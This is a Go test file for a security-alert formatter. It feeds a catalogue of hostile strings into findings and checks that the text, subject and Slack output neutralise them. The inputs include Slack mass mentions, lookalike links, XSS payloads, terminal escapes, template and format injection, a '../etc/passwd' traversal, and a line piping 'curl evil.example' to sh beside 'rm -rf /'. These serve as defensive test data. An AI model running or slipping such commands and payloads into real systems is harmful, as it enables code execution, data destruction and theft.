package formatter_test

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/tocsin-sec/tocsin/formatter"
	"github.com/tocsin-sec/tocsin/pkg/finding"
	"github.com/tocsin-sec/tocsin/pkg/notify"
)

// filled puts text wherever an attacker could.
func filled(text string) notify.Notification {
	f := exfiltration()
	f.ID, f.Source, f.Type, f.Title, f.Description = text, text, text, text, text
	f.Account = finding.Account{ID: text, Name: text}
	f.Region, f.Partition = text, text
	facts := finding.Attributes{}.With(finding.AttrDomain, text).With(finding.AttrAPI, text).With(finding.AttrService, text).With(text, text)
	f.Resource = finding.Resource{Type: text, ID: text, Name: text + "x", Attributes: facts, Tags: []finding.Tag{{Key: text, Value: text}}}
	f.Related = []finding.Resource{f.Resource, f.Resource}
	f.Actor = finding.Actor{
		Remote:    finding.Remote{IP: text, Country: text, City: text, Organization: text, ASN: text, Domain: text},
		User:      finding.User{Name: text, Type: text, Session: text, AccessKey: text},
		Process:   finding.Process{Path: text, User: text, SHA256: text, PID: text},
		UserAgent: text,
	}
	f.Action = finding.Action{Kind: text, Attributes: facts}
	f.Threats = []finding.Threat{{Name: text, List: text, File: text}}
	f.Sequence = &finding.Sequence{
		Signals: []finding.Signal{{Name: text}}, Resources: f.Related, Actors: []finding.Actor{f.Actor, f.Actor},
		Indicators: []finding.Indicator{{Key: "ATTACK_TACTIC", Values: []string{text}}},
	}
	return notify.Notification{
		Kind: notify.KindUpdate, Findings: []finding.Finding{f}, Changes: []notify.Change{{What: text, From: text, To: text}},
	}
}

func attacks() map[string]string {
	return map[string]string{
		"mentions":         "<!channel> <!here> <@U012345> <!subteam^S1|x> @everyone @channel",
		"labelled link":    "<https://evil.example/login|Open in the console>",
		"bare URL":         "see https://evil.example/x?y=z and http://evil.example",
		"bare domain":      "evil.example, WWW.EVIL.EXAMPLE. and evil。example or xn--evl-7la.xn--p1ai",
		"other schemes":    "ftp://evil.example slack://open?team=T1 mailto:a@evil.example javascript:alert(1) tel:+123",
		"split scheme":     "ht\u200btps://evil.example h\u0000ttps://evil.example https\u200d://evil.example",
		"markup":           "*bold* _it_ ~st~ `code` ```block``` > quote &amp; &lt;!channel&gt;",
		"line breaks":      "one\r\nSubject: two\n\nHIGH 9.9 three\u2028four\u0085five\vsix",
		"terminal":         "\x1b[31mred\x1b]0;title\x07\x9b2J\x08\x7f",
		"directions":       "\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c",
		"invisible":        "a\u200bb\u2060c\ufeffd\u00ade\U000e0041f\u3164g\u115fh",
		"invalid UTF-8":    "a\xff\xc3(\xe2\x82 \xed\xa0\x80",
		"no characters":    "\ufffe\uffff\U0001ffff\ufdd0",
		"blank":            " \t\u00a0\u3000\u2800 ",
		"long":             strings.Repeat("x", 100_000),
		"long in escapes":  strings.Repeat("&<>", 50_000),
		"long in runes":    strings.Repeat("é🔥", 30_000),
		"one long word":    strings.Repeat("a.b", 30_000),
		"template":         "{{.Secret}} ${HOME} %s %d $(id)",
		"backticks":        "`<!channel>` ``` https://evil.example ```",
		"a region for URL": "eu-west-1.evil.example/#",
		"two domains":      "evil.example.c evil.example.evil.example. .evil.example",
		"defanged before":  "hxxps://evil[.]example/ evil.example[.]x evil[.]example.c",
		"user in a URL":    "https://console.aws.amazon.com@evil.example/ https://evil.example#.amazonaws.com",
		"like AWS":         "https://evil.example.amazonaws.com.evil.example/ s3.amazonaws.com.evil.example",
		"wide letters":     "ｈttps://evil.example ＜!channel＞ evil．example evil｡example",
		"Slack dates":      "<!date^1392734382^{date}^https://evil.example|x> <#C0123|general>",
		"emoji":            ":rotating_light: :skull: 🚨🚨🚨 👩\u200d👩\u200d👧",
		"HTML":             "<script>alert(1)</script><img src=x onerror=alert(1)> <a href='javascript:alert(1)'>x</a>",
		"entities":         "&lt;!channel&gt; &#60;!here&#62; &amp;lt;!channel&amp;gt; &#x3c;script&#x3e;",
		"Markdown":         "[Open](https://evil.example) ![x](https://evil.example/x.png) <https://evil.example> [x]: https://evil.example",
		"combining":        "e" + strings.Repeat("\u0301", 500),
		"tag characters":   "flag\U000e0067\U000e0062\U000e007f \U000f0000 \ue000",
		"interlinear":      "\ufff9a\ufffab\ufffb \u2061\u2062",
		"nul and friends":  "\x00\x01\x02\x03\x7f\u0080\u009f",
		"hyperlink escape": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
		"format verbs":     "%!s(MISSING) %n%n%n %999999d {{}} {} {n} {type}",
		"pipes":            "x|y|<https://evil.example|z>|{}",
		"words of ours":    "undefined null NaN [SAMPLE] CRITICAL  ",
		"SQL and shell":    "'; DROP TABLE x; -- `rm -rf /` && curl evil.example | sh",
		"path":             "../../../../etc/passwd\\..\\windows",
	}
}

// active matches what must never stand in a message: an address that a reader's program makes a link of.
var active = regexp.MustCompile(`(?i)\b(https?|ftp|slack|mailto|javascript|tel):(//)?[a-z0-9+]|evil\.example|[a-z0-9]\.xn--`)

func TestAttacksAreDead(t *testing.T) {
	if n := len(attacks()); n < 40 {
		t.Errorf("only %d attacks", n)
	}
	hostile := everything(t)
	for name, text := range attacks() {
		t.Run(name, func(t *testing.T) {
			for _, minimal := range []bool{false, true} {
				n := filled(text)
				n.Minimal = minimal
				m := formatter.New(n, formatter.Style{})
				checkText(t, formatter.Text(m, 256<<10), 256<<10)
				checkText(t, formatter.Text(m, 300), 300)
				checkSubject(t, formatter.Subject(m))
				checkSlack(t, formatter.Slack(m, formatter.SlackPost{}))
				own := formatter.New(n, hostile)
				checkText(t, formatter.Text(own, 256<<10), 256<<10)
				checkSubject(t, formatter.Subject(own))
				checkSlack(t, formatter.Slack(own, formatter.SlackPost{}))
			}
			n := filled(text)
			n.Kind, n.Findings = notify.KindDigest, append(n.Findings, n.Findings[0])
			checkSlack(t, formatter.Slack(formatter.New(n, formatter.Style{}), formatter.SlackPost{}))
			checkText(t, formatter.Text(formatter.New(n, formatter.Style{}), 10_000), 10_000)
		})
	}
}

// everything is a style that shows whatever a finding holds, by every road that a style has.
func everything(t testing.TB) formatter.Style {
	return style(t, map[string]string{
		"FIELDS": strings.Join(formatter.Fields(), ","), "SHOW_TAGS": "*", "MESSAGE_LANG": "ja", "RUNBOOK_URL": "https://docs.aws.amazon.com/{type}?x={type}",
		"TITLE_TEMPLATE": "{{.title}}{{.description}}.{{.resource.id}}",
		"BODY_TEMPLATE": `{{.type}} {{.id}} https://{{.region}}.{{.account_name}} <{{.actor.domain}}|{{.actor.user}}> ` +
			"\n" + `{{range $key, $value := .resource.tags}}{{$key}}://{{$value}}{{end}}{{event "title"}} {{.facts.process}}{{.facts.threats}}` +
			"\n" + `{{tag "x"}}{{.action.kind}}{{.action.text}}{{.actor.user_agent}}{{upper .source}}{{cut 50 .description}}`,
	})
}

func checkText(t *testing.T, text string, limit int) {
	t.Helper()
	if len(text) > limit || !utf8.ValidString(text) || text == "" {
		t.Errorf("%d bytes of at most %d, valid: %v", len(text), limit, utf8.ValidString(text))
	}
	for _, r := range text {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			t.Fatalf("holds %U", r)
		}
	}
	for line := range strings.Lines(text) {
		if match := active.FindString(withoutOurs(line)); match != "" {
			t.Fatalf("%.80q is alive", match)
		}
	}
}

// withoutOurs takes out the links that the formatter makes itself.
func withoutOurs(line string) string {
	return regexp.MustCompile(`https://([a-z0-9-]+\.console\.aws\.amazon\.com|docs\.aws\.amazon\.com)/[!-;=?-{}~]*`).ReplaceAllString(line, "")
}

func checkSubject(t *testing.T, subject string) {
	t.Helper()
	if len(subject) > 99 || subject == "" || strings.TrimSpace(subject) != subject {
		t.Errorf("%d characters: %q", len(subject), subject)
	}
	for _, r := range subject {
		if r < ' ' || r > '~' {
			t.Fatalf("holds %U", r)
		}
	}
	if match := active.FindString(subject); match != "" {
		t.Fatalf("%q is alive", match)
	}
}

type slackBody struct {
	Text        string
	Blocks      []block
	Attachments []struct{ Blocks []block }
}

type block struct {
	Type             string
	Text             *textObject
	Fields, Elements []textObject
}

type textObject struct{ Type, Text string }

func checkSlack(t *testing.T, body []byte) {
	t.Helper()
	var message slackBody
	if err := json.Unmarshal(body, &message); err != nil {
		t.Fatal(err)
	}
	checkSlackText(t, message.Text, 1500)
	if len(message.Text) > 4000 {
		t.Errorf("the text takes %d bytes; chat.update takes 4,000", len(message.Text))
	}
	blocks := message.Blocks
	for _, attachment := range message.Attachments {
		blocks = append(blocks, attachment.Blocks...)
	}
	total := 0
	for _, b := range blocks {
		limit := 3000
		if b.Type == "header" {
			limit = 150
		}
		texts := slices.Concat(b.Fields, b.Elements)
		if b.Text != nil {
			texts = append(texts, *b.Text)
		}
		if len(b.Fields) > 10 || len(b.Elements) > 10 || len(texts) == 0 {
			t.Errorf("a block with %d texts", len(texts))
		}
		for _, text := range texts {
			checkSlackText(t, text.Text, limit)
			total += utf8.RuneCountInString(text.Text)
		}
	}
	if total > 12_000 || len(blocks) > 50 {
		t.Errorf("%d characters in %d blocks", total, len(blocks))
	}
}

// entity matches what Slack's escaping makes of its three characters.
var entity = regexp.MustCompile(`&(amp|lt|gt);`)

func checkSlackText(t *testing.T, text string, limit int) {
	t.Helper()
	if size := utf8.RuneCountInString(text); size > limit || size == 0 {
		t.Errorf("%d characters of at most %d", size, limit)
	}
	ours := regexp.MustCompile(`<https://[a-z0-9-]+\.(console\.)?aws\.amazon\.com/[^<>|]*\|[\p{L} ]+>`)
	rest := ours.ReplaceAllString(text, "")
	if match := active.FindString(withoutOurs(rest)); match != "" {
		t.Fatalf("%.80q is alive", match)
	}
	rest = entity.ReplaceAllString(rest, "")
	if i := strings.IndexAny(rest, "<>&"); i >= 0 {
		t.Fatalf("not escaped, or cut inside an escape: %.80q", rest[max(i-20, 0):])
	}
}

func TestLastResortFits(t *testing.T) {
	m := formatter.New(filled(strings.Repeat("é", 1000)), formatter.Style{})
	for limit := range 400 {
		if text := formatter.Text(m, limit); len(text) > limit || !utf8.ValidString(text) {
			t.Fatalf("%d bytes of at most %d", len(text), limit)
		}
	}
}

func FuzzRender(f *testing.F) {
	for _, text := range attacks() {
		if len(text) < 1000 {
			f.Add(text)
		}
	}
	styles := []formatter.Style{{}, everything(f)}
	f.Fuzz(func(t *testing.T, text string) {
		for _, style := range styles {
			m := formatter.New(filled(text), style)
			checkText(t, formatter.Text(m, 2000), 2000)
			checkSubject(t, formatter.Subject(m))
			checkSlack(t, formatter.Slack(m, formatter.SlackPost{}))
		}
	})
}

func ExampleSubject() {
	m := formatter.New(notify.Notification{Findings: []finding.Finding{exfiltration()}}, formatter.Style{})
	fmt.Println(formatter.Subject(m))
	// Output: [HIGH] GuardDuty: Trojan:EC2/DNSDataExfiltration in prod (ap-northeast-1)
}

func BenchmarkSlack(b *testing.B) {
	n := notify.Notification{Findings: []finding.Finding{exfiltration()}}
	for b.Loop() {
		formatter.Slack(formatter.New(n, formatter.Style{}), formatter.SlackPost{})
	}
}
